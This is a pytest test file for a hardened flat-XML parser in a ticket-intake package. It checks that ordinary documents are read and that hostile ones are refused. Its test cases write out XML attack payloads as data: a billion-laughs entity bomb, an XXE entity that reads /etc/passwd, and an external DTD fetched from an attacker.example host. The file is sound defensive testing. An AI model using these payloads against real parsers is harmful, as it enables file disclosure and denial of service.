"""XML of strangers: read, or refused with a reason and without harm."""

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ticket_intake.flat_xml import MAX_ELEMENTS, NotFlatXml, read_flat_xml

LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))


def test_the_children_of_the_root_are_read() -> None:
    document = "<xml><A><![CDATA[<你好>&]]></A><B>1</B><B>2</B><C/><D><E>deep</E></D></xml>".encode()
    assert read_flat_xml(document) == {"A": "<你好>&", "B": "1", "C": "", "D": ""}


def test_control_characters_do_not_come_through() -> None:
    assert read_flat_xml(b"<xml><A>a&#x7f;b</A></xml>") == {"A": "ab"}


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b'<!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><xml><A>&l9;</A></xml>", "entity"),
        (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><A>&e;</A></xml>', "entity"),
        (b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><xml/>', "document type"),
        (b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 100_000 + b'">]><xml>' + b"<A>&a;</A>" * 90 + b"</xml>", "entity"),
        (b"<xml>" + b"<A/>" * (MAX_ELEMENTS + 1) + b"</xml>", "more than"),
        (b"<a>" * 300_000, "not XML"),
        (b"", "not XML"),
        (b"\xff\xfe<xml/>", "not XML"),
        (b'<?xml version="1.0" encoding="no-such"?><xml/>', "XML"),
        (b'<?xml version="1.0" encoding="shift_jis"?><xml>\x81</xml>', "XML"),
        (b"<xml>&undefined;</xml>", "not XML"),
        ("{}".encode("utf-16"), "not XML"),
        ('<!DOCTYPE x [<!ENTITY e "ha">]><xml><A>&e;</A></xml>'.encode("utf-16"), "entity"),
    ],
    ids=[
        "laughs",
        "file",
        "external",
        "blow-up",
        "wide",
        "deep",
        "empty",
        "mark",
        "unknown",
        "multi",
        "name",
        "utf-16",
        "wide letters",
    ],
)
def test_a_document_that_is_none_or_an_attack_is_refused(document: bytes, reason: str) -> None:
    with pytest.raises(NotFlatXml, match=reason):
        read_flat_xml(document)


def test_a_deep_document_is_read_like_a_flat_one() -> None:
    assert read_flat_xml(b"<a>" * 100_000 + b"</a>" * 100_000) == {"a": ""}


@given(st.binary(max_size=300), st.sampled_from([b"", b"<?xml version='1.0' encoding='utf-7'?>", b"<xml>", b"<x><y>"]))
def test_any_bytes_are_read_or_refused(content: bytes, start: bytes) -> None:
    with suppress(NotFlatXml):
        assert isinstance(read_flat_xml(start + content), dict)
